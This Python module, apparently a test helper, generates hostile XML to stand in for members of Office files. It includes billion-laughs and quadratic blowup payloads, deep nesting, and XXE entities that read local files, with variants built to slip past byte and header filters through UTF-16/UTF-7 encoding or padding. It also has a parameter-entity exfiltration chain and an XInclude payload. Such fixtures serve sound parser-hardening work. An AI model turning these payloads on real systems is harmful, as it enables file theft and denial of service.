"""XML that multiplies, looks into files or never ends, to stand in the place of a member of an Office file."""

from collections.abc import Callable

_HEAD = '<?xml version="1.0"{encoding}?>'


def laughs(root: str) -> bytes:
    """A billion laughs: ten levels of entities of ten each."""
    levels = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'{_HEAD.format(encoding="")}<!DOCTYPE x [<!ENTITY a0 "ha">{levels}]><{root}>&a9;</{root}>'.encode()


def quadratic(root: str) -> bytes:
    """One entity of 100 kB, called 20,000 times."""
    calls = "&a;" * 20_000
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]><{root}>{calls}</{root}>'.encode()


def looks_into(path: str) -> Callable[[str], bytes]:
    """An entity that stands for a file."""
    return lambda root: _looking(root, path).encode()


def looks_in_utf_16(path: str) -> Callable[[str], bytes]:
    """The same in UTF-16, where no filter for bytes sees it."""
    return lambda root: _looking(root, path, ' encoding="UTF-16"').encode("utf-16")


def looks_in_utf_7(path: str) -> Callable[[str], bytes]:
    """The same in UTF-7."""
    return lambda root: _looking(root, path, ' encoding="UTF-7"').encode("utf-7")


def looks_late(path: str) -> Callable[[str], bytes]:
    """The same after 3 MB of comments, where no filter for beginnings sees it."""
    comments = f"<!--{'x' * 1_000}-->" * 3_000

    def made(root: str) -> bytes:
        return f'<!DOCTYPE {root} [{comments}<!ENTITY x SYSTEM "{path}">]><{root}>&x;</{root}>'.encode()

    return made


def parameter_entities(path: str) -> Callable[[str], bytes]:
    """An entity that reads a file and another that would send it."""

    def made(root: str) -> bytes:
        inner = f'<!ENTITY % f SYSTEM "{path}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'file:///x?%f;\'>">%e;%s;'
        return f"<!DOCTYPE {root} [{inner}]><{root}/>".encode()

    return made


def external_definition(path: str) -> Callable[[str], bytes]:
    """A document type that is a file."""
    return lambda root: f'<!DOCTYPE {root} SYSTEM "{path}"><{root}/>'.encode()


def deep(root: str) -> bytes:
    """100,000 elements inside each other."""
    return f"<{root}>{'<a>' * 100_000}{'</a>' * 100_000}</{root}>".encode()


def many_attributes(root: str) -> bytes:
    """An element of 200,000 attributes."""
    attributes = " ".join(f'a{number}="x"' for number in range(200_000))
    return f"<{root} {attributes}/>".encode()


def unended(root: str) -> bytes:
    """Elements that are never closed."""
    return f"<{root}>".encode() + b"<a>" * 500_000


def includes(path: str) -> Callable[[str], bytes]:
    """XInclude of a file."""
    space = "http://www.w3.org/2001/XInclude"
    return lambda root: f'<{root} xmlns:xi="{space}"><xi:include href="{path}" parse="text"/></{root}>'.encode()


def _looking(root: str, path: str, encoding: str = "") -> str:
    return f'{_HEAD.format(encoding=encoding)}<!DOCTYPE x [<!ENTITY x SYSTEM "{path}">]><{root}>&x;</{root}>'


def tricks(secret: str) -> dict[str, Callable[[str], bytes]]:
    """All of them, by name.

    Args:
        secret: The file that they would look into, as a URI.
    """
    return {
        "laughs": laughs,
        "quadratic": quadratic,
        "deep": deep,
        "many-attributes": many_attributes,
        "unended": unended,
        "looks-into": looks_into(secret),
        "looks-in-utf-16": looks_in_utf_16(secret),
        "looks-in-utf-7": looks_in_utf_7(secret),
        "looks-late": looks_late(secret),
        "parameter-entities": parameter_entities(secret),
        "external-definition": external_definition(secret),
        "includes": includes(secret),
    }
